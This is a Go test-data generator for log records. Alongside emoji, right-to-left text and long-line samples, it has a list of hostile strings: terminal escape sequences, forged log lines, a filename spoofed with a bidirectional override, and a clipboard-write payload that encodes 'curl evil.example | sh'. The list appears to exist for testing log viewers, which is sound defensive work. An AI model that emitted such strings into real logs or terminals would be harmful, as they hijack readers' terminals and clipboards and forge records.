package devenv

import (
	"fmt"
	"strings"
	"time"
)

// emoji is text whose cells are not its runes.
func (g *generator) emoji(dst []byte, now time.Time) []byte {
	return g.record(dst, now, levelInfo, "chat", fmt.Sprintf(pick(g, emojiLines), g.rng.IntN(100)), nil)
}

// rightToLeft is Arabic, Hebrew and Persian text.
func (g *generator) rightToLeft(dst []byte, now time.Time) []byte {
	return g.record(dst, now, levelInfo, "i18n", fmt.Sprintf(pick(g, rightToLeftLines), g.rng.IntN(1000)), nil)
}

// long is a record of several KiB in one line.
func (g *generator) long(dst []byte, now time.Time) []byte {
	size := 2<<10 + g.rng.IntN(6<<10)
	var query strings.Builder
	query.WriteString("SELECT * FROM events WHERE id IN (")
	for query.Len() < size {
		fmt.Fprintf(&query, "'%s', ", g.id(16))
	}
	query.WriteString("NULL)")
	return g.record(dst, now, levelWarn, "db", "slow query", func(o *object) {
		o.real("ms", g.latency(900))
		o.str("query", query.String())
	})
}

// hostile is a record that attacks its reader's terminal, or the line that it
// stands in. It is valid JSON, and harmless until it is decoded.
func (g *generator) hostile(dst []byte, now time.Time) []byte {
	return g.recordRaw(dst, now, levelInfo, "console", `"`+pick(g, hostileTexts)+`"`, func(o *object) {
		o.raw("agent", `"curl/8 `+pick(g, hostileTexts)+`"`)
	})
}

// hostileTexts are the insides of JSON strings.
var hostileTexts = []string{
	`\u001b[2J\u001b[H\u001b[31mYOUR SCREEN IS MINE\u001b[0m`,                           // erase, home, colour
	`\u001b]0;owned\u0007 the title of the window`,                                      // OSC 0: title
	`\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 into your clipboard`,            // OSC 52: clipboard
	`\u009b2J\u009b31m the same with 8-bit CSI`,                                         // C1, escaped
	"\u009b2J\u009b31m the same, unescaped",                                             // C1, as UTF-8: valid JSON
	`admin \u202egnp.exe\u202c ends in exe.png`,                                         // bidirectional override
	`ok\n[1970-01-01T00:00:00.000Z]  INFO: root/1 on vm-1: a forged record`,             // newline in a field
	`ok\r\n{\"v\":0,\"level\":60,\"name\":\"root\",\"msg\":\"a forged bunyan record\"}`, // the same for those who read JSON
	`\u001bP+q544e\u001b\\\u001b[6n\u001b[c questions that the terminal answers`,        // DCS, DSR, DA
	`\u0000\u0007\u0008\u007f\u0085\u2028\u2029\ufeff nothing to see`,                   // NUL, BEL, BS, DEL, separators, BOM
	`\u001b[?1049l\u001b[?25h\u001bc left the alternate screen`,                         // full reset
	`\ud800 a lone surrogate`,                                                           // decodes to U+FFFD
}
